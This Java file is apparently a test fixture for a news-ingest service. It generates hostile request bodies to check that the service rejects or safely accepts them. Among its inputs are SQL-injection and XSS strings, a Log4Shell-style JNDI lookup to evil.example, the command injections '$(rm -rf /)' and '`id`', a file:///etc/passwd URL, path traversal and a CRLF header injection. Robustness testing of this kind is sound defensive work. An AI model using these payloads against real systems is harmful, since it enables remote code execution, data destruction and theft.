package io.newsstream.app;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.IntFunction;

/**
 * A generated corpus of hostile ingest inputs, by class, with the HTTP answers each class may get. The
 * inputs are request bodies (one JSON document each); the same bytes are CLI lines and Kafka values.
 */
final class HostileInputs {
    record Input(String kind, byte[] bytes) {}

    record Kind(String name, Set<Integer> allowedStatuses, List<Input> inputs) {}

    private static final String BODY = "Ferry workers in Piraeus, Greece, walked out on Monday over pay, the union said.";
    private static final String[] METACHARS = {"'; DROP TABLE articles; --", "\" OR 1=1 --", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "%s%n%x", "\\\\'\\\"", "{{7*7}}", "]]>",
        "$(rm -rf /)", "`id`", "\\u0000", "' UNION SELECT password FROM users --", "<!--", "&amp;&lt;&#0;"};
    private static final String[] URLS = {"javascript:alert(1)", "file:///etc/passwd", "data:text/html,<b>x</b>",
        "ftp://files.example/a", "mailto:a@example.com", "http://user:secret@creds.example/a", "http://127.0.0.1:99999/x",
        "http://[::1]/x", "https://xn--80ak6aa92e.com/a", "https://пример.example/статья", "http://a.example/%0d%0aSet-Cookie:x=1",
        "http://a.example/../../etc/passwd", "/relative/path", "http://", "https://.", "http://a b.example/", "https://a.example/%00",
        "HTTPS://A.EXAMPLE/Mixed?utm_source=x#frag", "https://a.example:0/", "https://" + "a".repeat(300) + ".example/"};
    private static final String[] CONTROLS = {"\\u0000", "\\u0007", "\\u001b[31m", "\\u202e", "\\u200b", "\\ufeff", "\\ud800",
        "\\udfff\\ud800", "\\u2028", "\\u0085", "\\r\\n", "\\t"};

    private HostileInputs() {}

    static List<Kind> generate(long seed) {
        Random r = new Random(seed);
        List<Kind> kinds = new ArrayList<>();
        kinds.add(kind("malformed JSON", Set.of(400), 150, i -> truncated(r, i)));
        kinds.add(kind("wrong types", Set.of(400), 128, i -> wrongType(i)));
        kinds.add(kind("deep JSON", Set.of(400), 60, i -> deepJson(i)));
        kinds.add(kind("deep HTML", Set.of(202), 60, i -> deepHtml(i)));
        kinds.add(kind("huge fields", Set.of(202, 400), 40, i -> hugeField(i)));
        kinds.add(kind("invalid UTF-8", Set.of(202, 400), 80, i -> invalidUtf8(r, i)));
        kinds.add(kind("control and RTL characters", Set.of(202, 400), 120, i -> controls(i)));
        kinds.add(kind("SQL and HTML metacharacters", Set.of(202, 400), 150, i -> metachars(i)));
        kinds.add(kind("hostile URLs", Set.of(202, 400), 140, i -> article(URLS[i % URLS.length] + (i < URLS.length ? "" : "?n=" + i),
                "t" + i, BODY)));
        kinds.add(kind("not an article", Set.of(400), 80, i -> notAnArticle(r, i)));
        kinds.add(kind("oversized requests", Set.of(413), 4, i -> oversized(i)));
        return kinds;
    }

    private static Kind kind(String name, Set<Integer> statuses, int count, IntFunction<byte[]> make) {
        List<Input> inputs = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            inputs.add(new Input(name, make.apply(i)));
        }
        return new Kind(name, statuses, inputs);
    }

    static byte[] article(String url, String title, String body) {
        return ("{\"url\":\"" + url.replace("\\", "\\\\").replace("\"", "\\\"") + "\",\"title\":\"" + title + "\",\"body\":\""
                + body + "\"}").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] truncated(Random r, int i) {
        byte[] whole = article("https://trunc.example/" + i, "Truncated " + i, BODY);
        int cut = 1 + r.nextInt(whole.length - 2);
        byte[] out = new byte[cut];
        System.arraycopy(whole, 0, out, 0, cut);
        return out;
    }

    private static byte[] wrongType(int i) {
        String[] fields = {"url", "title", "body", "publishedAt", "metadata", "id", "language", "html"};
        String[] values = {"123", "[\"a\"]", "{\"x\":1}", "true", "12.5e400", "1.5", "[]", "-0"};
        String field = fields[i % fields.length];
        String value = values[(i / fields.length) % values.length];
        String base = "\"url\":\"https://types.example/" + i + "\",\"body\":\"" + BODY + "\"";
        return ("{" + base + ",\"" + field + "\":" + value + "}").replace("\"" + field + "\":\"https://types.example/" + i + "\",", "")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] deepJson(int i) {
        int depth = 1_000 + i * 800;
        String open = i % 2 == 0 ? "[" : "{\"a\":";
        String close = i % 2 == 0 ? "]" : "}";
        String nested = open.repeat(depth) + "1" + close.repeat(depth);
        return (i % 3 == 0 ? nested : "{\"url\":\"https://deep.example/" + i + "\",\"body\":\"x\",\"metadata\":" + nested + "}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] deepHtml(int i) {
        String[][] tags = {{"<div>", "</div>"}, {"<blockquote>", "</blockquote>"}, {"<ul><li>", "</li></ul>"},
            {"<table><tr><td>", "</td></tr></table>"}, {"<span>", "</span>"}};
        String[] tag = tags[i % tags.length];
        int depth = 1_000 + (i * 997) % 40_000;
        boolean closed = i % 2 == 0;
        String html = "<html><body>" + tag[0].repeat(depth) + "<p>" + BODY + "</p>" + (closed ? tag[1].repeat(depth) : "")
                + "</body></html>";
        return ("{\"url\":\"https://deephtml.example/" + i + "\",\"html\":\"" + html.replace("\"", "\\\"") + "\"}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] hugeField(int i) {
        return switch (i % 8) {
            case 0 -> article("https://huge.example/" + i, "T".repeat(20_000), BODY);
            case 1 -> article("https://huge.example/" + "p".repeat(10_000), "t", BODY);
            case 2 -> article("https://huge.example/" + i, "t", "word ".repeat(120_000 + i));
            case 3 -> ("{\"url\":\"https://huge.example/" + i + "\",\"html\":\"<p title='" + "x".repeat(1_500_000) + "'>" + BODY + "</p>\"}")
                    .getBytes(StandardCharsets.UTF_8);
            case 4 -> metadata(i, 500);
            case 5 -> ("{\"url\":\"https://huge.example/" + i + "\",\"body\":\"" + BODY + "\",\"author\":\"" + "A".repeat(50_000) + "\"}")
                    .getBytes(StandardCharsets.UTF_8);
            case 6 -> article("https://huge.example/" + i, "t", "x".repeat(2_100_000));
            default -> article("https://huge.example/" + i, "t", (BODY + " ").repeat(2_000));
        };
    }

    private static byte[] metadata(int i, int entries) {
        StringBuilder m = new StringBuilder();
        for (int e = 0; e < entries; e++) {
            m.append(e == 0 ? "" : ",").append("\"k").append(e).append("\":\"v\"");
        }
        return ("{\"url\":\"https://huge.example/" + i + "\",\"body\":\"" + BODY + "\",\"metadata\":{" + m + "}}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] invalidUtf8(Random r, int i) {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] head = ("{\"url\":\"https://utf8.example/" + i + "\",\"title\":\"T").getBytes(StandardCharsets.UTF_8);
        out.write(head, 0, head.length);
        byte[] b = bad[i % bad.length];
        out.write(b, 0, b.length);
        byte[] tail = ("\",\"body\":\"" + BODY + " " + r.nextInt(1000) + "\"}").getBytes(StandardCharsets.UTF_8);
        out.write(tail, 0, tail.length);
        return out.toByteArray();
    }

    private static byte[] controls(int i) {
        String c = CONTROLS[i % CONTROLS.length];
        return switch ((i / CONTROLS.length) % 4) {
            case 0 -> article("https://ctl.example/" + i, "Title" + c + i, BODY);
            case 1 -> article("https://ctl.example/" + i, "Title " + i, BODY + c + " more " + i);
            case 2 -> ("{\"url\":\"https://ctl.example/" + i + c + "\",\"body\":\"" + BODY + "\"}").getBytes(StandardCharsets.UTF_8);
            default -> ("{\"url\":\"https://ctl.example/" + i + "\",\"body\":\"" + BODY + "\",\"author\":\"A" + c
                    + "\",\"id\":\"id" + c + i + "\"}").getBytes(StandardCharsets.UTF_8);
        };
    }

    private static byte[] metachars(int i) {
        String m = METACHARS[i % METACHARS.length].replace("\"", "\\\"");
        String n = " " + i;
        return ("{\"id\":\"" + m + n + "\",\"url\":\"https://meta.example/q?x=" + m.replace(" ", "%20").replace("\\", "") + n.trim()
                + "\",\"source\":\"" + m + "\",\"title\":\"" + m + n + "\",\"body\":\"" + BODY + " " + m + n
                + "\",\"author\":\"" + m + "\",\"section\":\"" + m + "\",\"metadata\":{\"" + m + "\":\"" + m + "\"}}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] notAnArticle(Random r, int i) {
        String[] docs = {"null", "[]", "{}", "1", "\"text\"", "true", "", "   ", "\uFEFF", "<xml/>", "[1,2]", "{\"url\":null}"};
        if (i < docs.length * 4) {
            return docs[i % docs.length].getBytes(StandardCharsets.UTF_8);
        }
        byte[] garbage = new byte[1 + r.nextInt(2000)];
        r.nextBytes(garbage);
        return garbage;
    }

    private static byte[] oversized(int i) {
        if (i % 2 == 0) {
            return article("https://big.example/" + i, "t", "x".repeat(11 * 1024 * 1024));
        }
        StringBuilder batch = new StringBuilder("[");
        for (int n = 0; n < 1_001; n++) {
            batch.append(n == 0 ? "" : ",").append(new String(article("https://batch.example/" + i + "/" + n, "t", BODY),
                    StandardCharsets.UTF_8));
        }
        return batch.append(']').toString().getBytes(StandardCharsets.UTF_8);
    }
}
